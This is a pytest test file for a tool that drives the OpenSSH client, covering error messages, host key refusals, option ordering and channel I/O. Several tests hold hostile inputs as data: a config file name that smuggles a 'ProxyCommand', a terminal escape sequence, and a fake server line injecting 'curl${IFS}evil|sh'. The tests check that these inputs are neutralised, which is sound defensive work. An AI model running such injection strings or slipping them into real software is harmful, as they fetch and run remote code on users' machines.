"""bench reads the messages of OpenSSH's client. tests/e2e/test_ssh_configurations.py tries a real one."""

from __future__ import annotations

import os
import subprocess
from contextlib import closing
from pathlib import Path

import pytest

from bench.base.errors import BadInput
from bench.push import openssh
from bench.push.connection import ConnectionBroke, HostKeyRefused, Unreachable
from bench.push.hosts import Host


@pytest.fixture
def ssh(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Put a program in place of ssh that prints the text of a file for every command."""
    program = tmp_path / "ssh"
    program.write_text(
        "#!/bin/sh\n"
        "case \" $* \" in *' -G '*) printf 'user me\\nhostname 10.0.0.1\\nport 22\\n'; exit;; esac\n"
        f"cat {tmp_path}/said >&2; exit 255\n"
    )
    program.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")
    return tmp_path / "said"


@pytest.mark.parametrize(
    ("said", "message"),
    [
        ("ssh: Could not resolve hostname gpu9: Name or service not known", 'no machine is called "gpu9"'),
        ("ssh: connect to host 10.0.0.1 port 22: No route to host", "10.0.0.1 port 22: no route to host"),
        ("Connection timed out during banner exchange", "10.0.0.1 port 22: no answer in 15 s"),
        ("Connection to 10.0.0.1 port 22 timed out", "10.0.0.1 port 22: no answer in 15 s"),
        ("kex_exchange_identification: read: Connection reset by peer",
         "10.0.0.1 port 22: no SSH session: kex_exchange_identification: read: Connection reset by peer"),
        ("banner exchange: \x1b]0;owned\x07", "no SSH session: banner exchange: ?]0;owned?"),
        ("", "no SSH session: no reason given"),
        ("me@10.0.0.1: Permission denied (publickey).", 'user "me" was refused: it accepts publickey'),
        ("debug1: Server accepts key: /k ED25519\nme@10.0.0.1: Permission denied (publickey).",
         "the SSH key has a passphrase"),
        ("debug1: Server accepts key: /k ED25519\nAuthenticated to door ([10.0.0.9]:22) using x.\n"
         "bob@10.0.0.1: Permission denied (publickey,keyboard-interactive).",
         'user "bob" was refused: it accepts publickey, keyboard-interactive'),
    ],
)  # fmt: skip
def test_the_reason_of_a_failure_is_told(ssh: Path, said: str, message: str) -> None:
    ssh.write_text(said + "\n")
    with pytest.raises(Unreachable) as caught:
        openssh.open_connection(Host("gpu1", "gpu1"), None)
    assert message in caught.value.message
    assert ("ControlPersist" in str(caught.value.advice)) == ("keyboard-interactive" in said)


@pytest.mark.parametrize(
    ("said", "message"),
    [
        ("debug1: Server host key: ssh-rsa SHA256:1+\nHost key verification failed.",
         "its host key is not known: ssh-rsa SHA256:1+"),
        ("debug1: Server host certificate: ssh-ed25519-cert-v01@openssh.com SHA256:a/b, serial 0\n"
         "Host key verification failed.", "its host key is not known: ssh-ed25519 SHA256:a/b"),
        ("debug1: Server host key: ssh-rsa SHA256:door\ndebug1: Server host key: ssh-rsa SHA256:node\n"
         "Host key verification failed.", "ssh-rsa SHA256:node"),
        ("@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\nHost key verification failed.",
         "its host key has changed"),
        ("@       WARNING: REVOKED HOST KEY DETECTED!               @\nHost key verification failed.",
         "its host key is marked as revoked"),
    ],
)  # fmt: skip
def test_a_host_key_that_is_refused_is_named(ssh: Path, said: str, message: str) -> None:
    ssh.write_text(said + "\n")
    with pytest.raises(HostKeyRefused) as caught:
        openssh.open_connection(Host("gpu1", "gpu1"), None)
    assert message in caught.value.message


def test_the_strict_options_come_before_those_of_the_user(tmp_path: Path) -> None:
    """ssh takes the first value of an option and the last -F."""
    theirs = tmp_path / "theirs"
    theirs.write_text("Host n\n  ForwardAgent yes\n")
    arguments = ("-F", str(theirs), "-o", "BatchMode=no")
    host = Host("n", "n", "me", 2222, Path("/k"), ssh_arguments=arguments)
    made = openssh.Ssh(host, tmp_path / "config")
    words = made.words()
    config = Path(words[words.index("-F") + 1]).read_text()
    made.close()
    assert words.index("BatchMode=yes") < words.index("BatchMode=no")
    assert words.count("-F") == 1 and words[-2:] == ["--", "n"]
    assert words[words.index("-l") :][:6] == ["-l", "me", "-p", "2222", "-i", "/k"]
    assert config.index("StrictHostKeyChecking yes") < config.index("ForwardAgent yes")
    assert "ForwardAgent no" in config and config.count("Include") == 0


def test_a_configuration_that_cannot_be_read_is_refused(tmp_path: Path) -> None:
    with pytest.raises(BadInput, match="cannot be read: No such file"):
        openssh.endpoint_of(Host("n", "n"), tmp_path / "config")


def test_without_a_file_of_their_own_users_have_the_usual_two() -> None:
    assert openssh._theirs(None) == b'Include "~/.ssh/config"\nInclude "/etc/ssh/ssh_config"\n'


@pytest.mark.parametrize("name", ["a [b]*?.conf", 'a"\nProxyCommand touch owned\n#"', "a%h${HOME}\\.conf"])
def test_a_configuration_may_have_any_name(tmp_path: Path, name: str) -> None:
    """The real ssh reads the file; no character of its name is interpreted."""
    config = tmp_path / name
    config.write_text("Host n\n  HostName 10.9.8.7\n")
    endpoint = openssh.endpoint_of(Host("n", "n"), config)
    assert (endpoint.address, endpoint.gateway) == ("10.9.8.7", "")


def test_nothing_of_the_user_is_handed_to_a_node(tmp_path: Path) -> None:
    names = {"forwardagent": "no", "forwardx11": "no", "gssapidelegatecredentials": "no", "tunnel": "false"}
    config = tmp_path / "config"
    config.write_text("".join(f"{name} yes\n" for name in names) + "RemoteForward 7 localhost:7\n")
    with closing(openssh.Ssh(Host("n", "n"), config)) as made:
        said = subprocess.run(made.words("-G"), capture_output=True, text=True, check=True).stdout
    options = dict(line.split(" ", 1) for line in said.splitlines() if " " in line)
    assert {name: options.get(name, "no") for name in names} == names
    assert options["clearallforwardings"] == "yes"


@pytest.mark.parametrize("before", ["", "debug1: kex_exchange_identification: banner line 1: "])
def test_a_server_puts_no_command_into_the_advice(ssh: Path, before: str) -> None:
    """ssh's debugging output has texts that the server sends before it proves its host key."""
    lines = ("REMOTE HOST IDENTIFICATION HAS CHANGED!", "ssh-keygen -f x -R \"';curl${IFS}evil|sh;'\"")
    ssh.write_text("".join(f"{before}{line}\n" for line in lines) + "Connection reset by peer\n")
    with pytest.raises((HostKeyRefused, Unreachable)) as caught:
        openssh.open_connection(Host("gpu1", "gpu1"), None)
    assert "evil" not in str(caught.value)
    assert isinstance(caught.value, Unreachable) == bool(before)


def test_the_folder_of_a_socket_has_a_short_path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    deep = tmp_path / ("x" * 100)
    deep.mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(deep))
    folder = openssh._short_folder()
    folder.rmdir()
    assert len(str(folder)) < 80


def test_ssh_speaks_english_and_sends_no_locale(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LC_ALL", "de_DE.UTF-8")
    monkeypatch.setenv("LANG", "de_DE.UTF-8")
    environment = openssh._environment()
    assert not {"LC_ALL", "LANG"} & {*environment} and "PATH" in environment


def test_a_command_without_an_exit_code_is_a_broken_connection() -> None:
    for script in ("exit 255", "kill -9 $$"):
        channel = openssh.SshChannel(["sh", "-c", script])
        with pytest.raises(ConnectionBroke):
            channel.exit_code(60.0)
        channel.close()


def test_a_channel_carries_input_output_and_errors() -> None:
    channel = openssh.SshChannel(["sh", "-c", "cat; echo problem >&2; exit 3"])
    data, sent = memoryview(bytes(3 * 2**16)), 0
    with pytest.raises(TimeoutError):
        while True:  # nothing reads the answer, so the pipes fill
            sent += channel.send(data, 0.5)
    found = b""
    while len(found) < sent:
        found += channel.receive(60.0)
    channel.end_input()
    assert channel.receive(60.0) == b"" and channel.receive_errors(60.0) == b"problem\n"
    assert channel.exit_code(60.0) == 3
    channel.close()


def test_a_command_that_reads_no_more_is_told_apart() -> None:
    channel = openssh.SshChannel(["sh", "-c", "exec 0<&-; sleep 60"])
    with pytest.raises(BrokenPipeError):
        while True:
            channel.send(memoryview(bytes(2**16)), 60.0)
    with pytest.raises(TimeoutError):
        channel.exit_code(0.1)
    channel.close()
